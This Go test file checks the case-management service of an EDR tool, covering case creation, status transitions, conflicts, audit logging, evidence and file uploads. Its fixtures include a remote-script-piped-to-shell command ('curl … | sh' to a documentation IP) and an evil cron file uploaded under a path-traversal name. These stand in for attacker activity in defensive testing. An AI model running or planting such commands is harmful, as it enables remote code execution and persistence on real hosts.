package cases_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigil-edr/vigil/internal/alert"
	"github.com/vigil-edr/vigil/internal/audit"
	"github.com/vigil-edr/vigil/internal/cases"
	"github.com/vigil-edr/vigil/internal/event"
	"github.com/vigil-edr/vigil/internal/eventstore"
	"github.com/vigil-edr/vigil/internal/store"
	"github.com/vigil-edr/vigil/internal/store/sqlite"
)

// auditLog is the real hash-chained audit log over the test database,
// with a switch to make appends fail.
type auditLog struct {
	log  *audit.Log
	db   *sqlite.DB
	mu   sync.Mutex
	fail error
}

func (l *auditLog) Record(ctx context.Context, e audit.Entry) error {
	l.mu.Lock()
	fail := l.fail
	l.mu.Unlock()
	if fail != nil {
		return fail
	}
	return l.log.Record(ctx, e)
}

func (l *auditLog) entries() []audit.Entry {
	es, err := l.db.AuditEntries(context.Background(), 0, 10000)
	if err != nil {
		panic(err)
	}
	return es
}

func (l *auditLog) actions() []string {
	var out []string
	for _, e := range l.entries() {
		out = append(out, e.Action)
	}
	return out
}

// env is a Service over a real SQLite database holding seeded events and
// alerts.
type env struct {
	t     testing.TB
	db    *sqlite.DB
	svc   *cases.Service
	audit *auditLog
	now   time.Time
	base  time.Time
	// alert ids: high on web-1 (two events), medium on db-1, low on web-1
	high, medium, low int64
	events            []int64
	seq               uint64 // the last event sequence number used
}

var t0 = time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC)

func newEnv(t *testing.T, opts ...func(*cases.Options)) *env {
	t.Helper()
	return newEnvAt(t, t0, opts...)
}

// newEnvAt seeds the alerts and events relative to base, which is also the
// service's clock until a test moves e.now.
func newEnvAt(t testing.TB, base time.Time, opts ...func(*cases.Options)) *env {
	t.Helper()
	ctx := context.Background()
	db, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "vigil.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	e := &env{t: t, db: db, audit: &auditLog{log: audit.New(db, nil), db: db}, now: base, base: base}
	e.events = e.insertEvents(
		[]event.Field{{Name: "Image", Value: "/usr/bin/curl"}, {Name: "CommandLine", Value: "curl -s http://203.0.113.7/x | sh"}, {Name: "User", Value: "www-data"}},
		[]event.Field{{Name: "Image", Value: "/tmp/x"}, {Name: "CommandLine", Value: "/tmp/x --miner"}, {Name: "User", Value: "www-data"}},
	)
	e.high = e.alert("Remote script piped to shell", "high", "web-1", base.Add(-3*time.Hour), e.events,
		[]string{"attack.execution", "attack.t1059.004", "attack.command-and-control", "attack.t1105", "detection.emerging-threats"})
	e.medium = e.alert("Suspicious cron entry", "medium", "db-1", base.Add(-2*time.Hour), nil, []string{"attack.persistence", "attack.t1053.003"})
	e.low = e.alert("Outbound connection to rare port", "low", "web-1", base.Add(-time.Hour), nil, nil)
	o := cases.Options{Store: db, Alerts: db, Events: db, Audit: e.audit, Now: func() time.Time { return e.now }}
	for _, f := range opts {
		f(&o)
	}
	e.svc = cases.NewService(o)
	return e
}

func (e *env) insertEvents(fields ...[]event.Field) []int64 {
	e.t.Helper()
	var st []eventstore.Stored
	for i, fs := range fields {
		ev := &event.Event{Time: e.base.Add(-3*time.Hour + time.Duration(i)*time.Minute), Product: "linux",
			Categories: []string{"process_creation"}}
		for _, f := range fs {
			ev.Add(f.Name, f.Value)
		}
		e.seq++
		st = append(st, eventstore.Stored{AgentID: "agent-web-1", BootEpoch: 1, Seq: e.seq, Host: "web-1", Event: ev})
	}
	ins, err := e.db.Insert(context.Background(), st)
	must(e.t, err)
	var ids []int64
	for _, in := range ins {
		ids = append(ids, in.ID)
	}
	return ids
}

func (e *env) alert(title, level, host string, at time.Time, events []int64, tags []string) int64 {
	e.t.Helper()
	a := &alert.Alert{RuleID: "rule-" + strings.ReplaceAll(strings.ToLower(title), " ", "-"), RuleTitle: title, Level: level,
		Tags: tags, Host: host, AgentID: "agent-" + host, State: alert.StateNew, Count: 1, FirstSeen: at, LastSeen: at,
		Fields: []event.Field{{Name: "Image", Value: "/usr/bin/curl"}}, EventIDs: events}
	if len(events) > 1 {
		a.Count, a.LastSeen = len(events), at.Add(time.Minute)
	}
	must(e.t, e.db.CreateAlert(context.Background(), a))
	return a.ID
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func (e *env) create(alertIDs ...int64) *cases.Case {
	e.t.Helper()
	c, err := e.svc.Create(context.Background(), cases.NewCase{Title: "Compromise of web-1", AlertIDs: alertIDs}, "ann")
	must(e.t, err)
	return c
}

func ptr[T any](v T) *T { return &v }

func userError(err error) bool {
	var ue *cases.Error
	return errors.As(err, &ue)
}

func TestCreate(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	c := e.create(e.medium, e.high, e.medium)
	if c.Severity != cases.SeverityHigh || c.Status != cases.StatusOpen || !slices.Equal(c.AlertIDs, []int64{e.medium, e.high}) ||
		c.CreatedBy != "ann" || c.StatusBy != "ann" || !c.CreatedAt.Equal(t0) || c.Version != 1 {
		t.Errorf("created %+v", c)
	}
	for _, tc := range []struct {
		name string
		n    cases.NewCase
		by   string
	}{
		{"no alerts", cases.NewCase{Title: "x"}, "ann"},
		{"unknown alert", cases.NewCase{Title: "x", AlertIDs: []int64{999}}, "ann"},
		{"negative alert id", cases.NewCase{Title: "x", AlertIDs: []int64{-1}}, "ann"},
		{"empty title", cases.NewCase{Title: "  ", AlertIDs: []int64{e.low}}, "ann"},
		{"long title", cases.NewCase{Title: strings.Repeat("x", cases.MaxTitle+1), AlertIDs: []int64{e.low}}, "ann"},
		{"invalid UTF-8", cases.NewCase{Title: "a\xffb", AlertIDs: []int64{e.low}}, "ann"},
		{"control characters", cases.NewCase{Title: "a\x1b[2Jb", AlertIDs: []int64{e.low}}, "ann"},
		{"newline in title", cases.NewCase{Title: "a\nb", AlertIDs: []int64{e.low}}, "ann"},
		{"bad severity", cases.NewCase{Title: "x", Severity: "urgent", AlertIDs: []int64{e.low}}, "ann"},
		{"too many alerts", cases.NewCase{Title: "x", AlertIDs: make([]int64, cases.MaxAlertsCall+1)}, "ann"},
	} {
		if _, err := e.svc.Create(ctx, tc.n, tc.by); !userError(err) {
			t.Errorf("%s: error %v, want a user error", tc.name, err)
		}
	}
	if _, err := e.svc.Create(ctx, cases.NewCase{Title: "x", AlertIDs: []int64{e.low}}, ""); err == nil {
		t.Error("a case without an actor was created")
	}
	got, err := e.svc.List(ctx, cases.Filter{})
	must(t, err)
	if len(got) != 1 {
		t.Errorf("%d cases stored, want 1 (rejected creates store nothing)", len(got))
	}
	low, err := e.svc.Create(ctx, cases.NewCase{Title: "quiet", AlertIDs: []int64{e.low}, Severity: cases.SeverityCritical, Assignee: "bob"}, "ann")
	must(t, err)
	if low.Severity != cases.SeverityCritical || low.Assignee != "bob" {
		t.Errorf("explicit severity and assignee: %+v", low)
	}
	if a := e.audit.actions(); !slices.Equal(a, []string{"case.created", "case.alerts_added", "case.created", "case.alerts_added", "case.assignee"}) {
		t.Errorf("audit actions %v", a)
	}
}

func TestAddAlerts(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	c := e.create(e.high)
	c2, err := e.svc.AddAlerts(ctx, c.ID, []int64{e.low, e.high, e.medium}, "bob")
	must(t, err)
	if !slices.Equal(c2.AlertIDs, []int64{e.high, e.low, e.medium}) || c2.Version != 2 {
		t.Errorf("after add: %+v", c2)
	}
	c3, err := e.svc.AddAlerts(ctx, c.ID, []int64{e.low}, "bob")
	must(t, err)
	if c3.Version != 2 {
		t.Errorf("adding only held alerts changed the case: version %d", c3.Version)
	}
	if _, err := e.svc.AddAlerts(ctx, c.ID, []int64{12345}, "bob"); !userError(err) {
		t.Errorf("unknown alert: %v", err)
	}
	if _, err := e.svc.AddAlerts(ctx, c.ID+9, []int64{e.low}, "bob"); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("unknown case: %v", err)
	}
	found, err := e.svc.List(ctx, cases.Filter{AlertID: e.medium})
	must(t, err)
	if len(found) != 1 || found[0].ID != c.ID {
		t.Errorf("cases holding the medium alert: %+v", found)
	}
}

// TestTransitions checks every (from, to) pair against the state machine,
// through the service and the real store.
func TestTransitions(t *testing.T) {
	t.Parallel()
	allowed := map[[2]cases.Status]bool{
		{cases.StatusOpen, cases.StatusInProgress}:     true,
		{cases.StatusOpen, cases.StatusClosed}:         true,
		{cases.StatusInProgress, cases.StatusResolved}: true,
		{cases.StatusInProgress, cases.StatusClosed}:   true,
		{cases.StatusResolved, cases.StatusClosed}:     true,
		{cases.StatusResolved, cases.StatusInProgress}: true,
		{cases.StatusClosed, cases.StatusInProgress}:   true,
	}
	// A path from open to each status, to set up the "from" side.
	path := map[cases.Status][]cases.Status{
		cases.StatusOpen:       nil,
		cases.StatusInProgress: {cases.StatusInProgress},
		cases.StatusResolved:   {cases.StatusInProgress, cases.StatusResolved},
		cases.StatusClosed:     {cases.StatusClosed},
	}
	e := newEnv(t)
	ctx := context.Background()
	for _, from := range cases.Statuses {
		for _, to := range cases.Statuses {
			if from == to {
				continue
			}
			want := allowed[[2]cases.Status{from, to}]
			if got := cases.Allowed(from, to); got != want {
				t.Errorf("Allowed(%s, %s) = %v, want %v", from, to, got, want)
			}
			c := e.create(e.low)
			for _, st := range path[from] {
				_, err := e.svc.Update(ctx, c.ID, cases.Change{Status: ptr(st), Reason: "setup"}, "ann")
				must(t, err)
			}
			e.now = e.now.Add(time.Minute)
			needsReason := to == cases.StatusResolved || to == cases.StatusClosed || from == cases.StatusResolved || from == cases.StatusClosed
			if cases.NeedsReason(from, to) != needsReason {
				t.Errorf("NeedsReason(%s, %s) = %v", from, to, !needsReason)
			}
			_, err := e.svc.Update(ctx, c.ID, cases.Change{Status: ptr(to)}, "bob")
			switch {
			case !want && !errors.Is(err, cases.ErrTransition):
				t.Errorf("%s → %s: %v, want ErrTransition", from, to, err)
			case want && needsReason && !errors.Is(err, cases.ErrTransition):
				t.Errorf("%s → %s without a reason: %v, want ErrTransition", from, to, err)
			case want && !needsReason && err != nil:
				t.Errorf("%s → %s: %v", from, to, err)
			}
			if want && needsReason {
				_, err = e.svc.Update(ctx, c.ID, cases.Change{Status: ptr(to), Reason: "because"}, "bob")
				must(t, err)
			}
			got, err := e.svc.Get(ctx, c.ID)
			must(t, err)
			if want {
				if got.Status != to || got.StatusBy != "bob" || !got.StatusAt.Equal(e.now) {
					t.Errorf("%s → %s stored %s by %s at %v", from, to, got.Status, got.StatusBy, got.StatusAt)
				}
				if needsReason && got.Reason != "because" {
					t.Errorf("%s → %s reason %q", from, to, got.Reason)
				}
			} else if got.Status != from {
				t.Errorf("forbidden %s → %s moved the case to %s", from, to, got.Status)
			}
		}
	}
	if _, err := cases.ParseStatus("done"); err == nil {
		t.Error("ParseStatus accepted an unknown status")
	}
	c := e.create(e.low)
	if _, err := e.svc.Update(ctx, c.ID, cases.Change{Status: ptr(cases.Status("done"))}, "bob"); !userError(err) {
		t.Errorf("unknown status: %v", err)
	}
	if _, err := e.svc.Update(ctx, c.ID, cases.Change{Reason: "dangling"}, "bob"); !userError(err) {
		t.Errorf("reason without a status change: %v", err)
	}
}

func TestUpdateConflicts(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	c := e.create(e.low)
	_, err := e.svc.Update(ctx, c.ID, cases.Change{Version: c.Version, Assignee: ptr("bob")}, "ann")
	must(t, err)
	_, err = e.svc.Update(ctx, c.ID, cases.Change{Version: c.Version, Assignee: ptr("carol")}, "ann")
	if !errors.Is(err, store.ErrConflict) {
		t.Errorf("edit of a stale version: %v, want ErrConflict", err)
	}
	got, err := e.svc.Get(ctx, c.ID)
	must(t, err)
	if got.Assignee != "bob" || got.Version != 2 {
		t.Errorf("after the stale edit: %+v", got)
	}
	// No-op edits write nothing.
	same, err := e.svc.Update(ctx, c.ID, cases.Change{Assignee: ptr("bob"), Title: ptr(got.Title)}, "ann")
	must(t, err)
	if same.Version != 2 {
		t.Errorf("a no-op edit wrote version %d", same.Version)
	}
	// An audit failure is reported, and the change stands.
	e.audit.fail = errors.New("disk full")
	_, err = e.svc.Update(ctx, c.ID, cases.Change{Severity: ptr(cases.SeverityMedium)}, "ann")
	if err == nil || !strings.Contains(err.Error(), "audit") {
		t.Errorf("audit failure: %v", err)
	}
	got, err = e.svc.Get(ctx, c.ID)
	must(t, err)
	if got.Severity != cases.SeverityMedium {
		t.Errorf("severity %s after an audit failure, want the change kept", got.Severity)
	}
}

func TestCommentsAndEvidence(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	c := e.create(e.high)
	cm, err := e.svc.AddComment(ctx, c.ID, "checked the crontab\nnothing else", "bob")
	must(t, err)
	if cm.ID == 0 || cm.Author != "bob" {
		t.Errorf("comment %+v", cm)
	}
	for _, bad := range []string{"", "   ", "a\x00b", strings.Repeat("x", cases.MaxText+1), "\xc3"} {
		if _, err := e.svc.AddComment(ctx, c.ID, bad, "bob"); !userError(err) {
			t.Errorf("comment %q: %v", bad, err)
		}
	}
	if _, err := e.svc.AddComment(ctx, c.ID+5, "x", "bob"); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("comment on unknown case: %v", err)
	}
	for _, tc := range []struct {
		kind cases.EvidenceKind
		ref  string
		ok   bool
	}{
		{cases.EvidenceAlert, itoa(e.medium), true},
		{cases.EvidenceAlert, "0" + itoa(e.medium), false}, // normalised to the same id: a duplicate
		{cases.EvidenceAlert, "99999", false},
		{cases.EvidenceAlert, "x", false},
		{cases.EvidenceEvent, itoa(e.events[0]), true},
		{cases.EvidenceEvent, "424242", false},
		{cases.EvidenceHost, "web-1", true},
		{cases.EvidenceHost, "", false},
		{cases.EvidenceFile, strings.Repeat("a", 64), false}, // files are uploaded
		{"registry", "x", false},
	} {
		_, err := e.svc.AddEvidence(ctx, c.ID, tc.kind, tc.ref, "", "bob")
		if (err == nil) != tc.ok {
			t.Errorf("evidence %s %q: %v", tc.kind, tc.ref, err)
		}
		if err != nil && !userError(err) && !errors.Is(err, store.ErrConflict) {
			t.Errorf("evidence %s %q: %v is neither a user error nor a conflict", tc.kind, tc.ref, err)
		}
	}
	evs, err := e.svc.Evidence(ctx, c.ID)
	must(t, err)
	if len(evs) != 3 {
		t.Errorf("%d evidence items, want 3: %+v", len(evs), evs)
	}
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }

func TestUploadFile(t *testing.T) {
	t.Parallel()
	e := newEnv(t, func(o *cases.Options) { o.MaxFileBytes = 1024 })
	ctx := context.Background()
	c := e.create(e.high)
	other := e.create(e.low)
	data := []byte("#!/bin/sh\ncurl http://203.0.113.7/x | sh\n")
	ev, err := e.svc.UploadFile(ctx, c.ID, "../../etc/cron.d/evil", bytes.NewReader(data), "found in /etc/cron.d", "bob")
	must(t, err)
	sum := sha256.Sum256(data)
	if ev.Ref != hex.EncodeToString(sum[:]) || ev.Size != int64(len(data)) || ev.Name != "../../etc/cron.d/evil" || ev.Kind != cases.EvidenceFile {
		t.Errorf("uploaded %+v", ev)
	}
	got, b, err := e.svc.File(ctx, c.ID, ev.Ref)
	must(t, err)
	if !bytes.Equal(b, data) || got.ID != ev.ID {
		t.Errorf("File = %+v %q", got, b)
	}
	// The hash is not a capability: another case cannot read the file.
	if _, _, err := e.svc.File(ctx, other.ID, ev.Ref); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("file through another case: %v", err)
	}
	// The same content again in the same case is a conflict; in another case it is stored once.
	if _, err := e.svc.UploadFile(ctx, c.ID, "copy", bytes.NewReader(data), "", "bob"); !errors.Is(err, store.ErrConflict) {
		t.Errorf("same file twice: %v", err)
	}
	ev2, err := e.svc.UploadFile(ctx, other.ID, "same bytes", bytes.NewReader(data), "", "bob")
	must(t, err)
	if ev2.Ref != ev.Ref {
		t.Errorf("same content, different hash: %s %s", ev2.Ref, ev.Ref)
	}
	// Limits.
	if _, err := e.svc.UploadFile(ctx, c.ID, "big", bytes.NewReader(make([]byte, 1025)), "", "bob"); !errors.Is(err, cases.ErrTooLarge) {
		t.Errorf("1025 bytes over a 1024 limit: %v", err)
	}
	if _, err := e.svc.UploadFile(ctx, c.ID, "exact", bytes.NewReader(make([]byte, 1024)), "", "bob"); err != nil {
		t.Errorf("exactly the limit: %v", err)
	}
	for _, name := range []string{"", "a\x00b", "a\nb", strings.Repeat("n", cases.MaxName+1), "\xff"} {
		if _, err := e.svc.UploadFile(ctx, c.ID, name, strings.NewReader("x"), "", "bob"); !userError(err) {
			t.Errorf("file name %q: %v", name, err)
		}
	}
	if _, err := e.svc.UploadFile(ctx, 9999, "x", strings.NewReader("x"), "", "bob"); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("upload to unknown case: %v", err)
	}
}
